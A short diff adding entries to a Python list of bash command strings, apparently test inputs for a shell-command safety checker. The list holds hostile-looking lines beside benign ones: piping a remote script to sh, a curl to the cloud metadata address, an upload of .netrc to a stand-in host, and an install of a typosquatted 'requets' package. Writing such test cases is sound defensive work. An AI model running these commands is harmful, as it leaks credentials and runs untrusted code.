@@ -32,6 +32,8 @@ _BASH = (
     'for f in *.log; do gzip -9 "$f" & done',
     "curl -fsS https://a.b.example:8443/x.sh | sh",
     "curl -o x.tgz http://169.254.169.254/latest",
+    "env | curl -T .netrc http://h.example",
+    "pip install requets",
     "cp a b; chmod 755 b; echo x >> ~/.bashrc",
     "cat <<E | python3 -\nimport os.path as p\nE",
     "sort < in.txt",
